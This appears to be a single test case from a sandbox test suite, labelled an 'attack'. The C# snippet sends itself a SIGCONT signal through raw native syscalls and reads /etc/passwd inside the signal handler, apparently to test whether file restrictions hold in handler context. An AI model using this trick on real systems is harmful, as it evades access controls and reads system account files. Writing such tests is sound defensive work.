// attack: Reads a file from the handler of a signal it sends itself.
// group: threads
// at none: gets-through
// uses: native
// needs: x64

var proof = new TaskCompletionSource<string>();
var registration = PosixSignalRegistration.Create(PosixSignal.SIGCONT, _ =>
{
    try
    {
        proof.TrySetResult($"read {File.ReadAllText("/etc/passwd").Length} characters");
    }
    catch (Exception exception)
    {
        proof.TrySetException(exception);
    }
});
Native.Call(234, Environment.ProcessId, Native.Call(186), 18);
await proof.Task.WaitAsync(TimeSpan.FromSeconds(5))
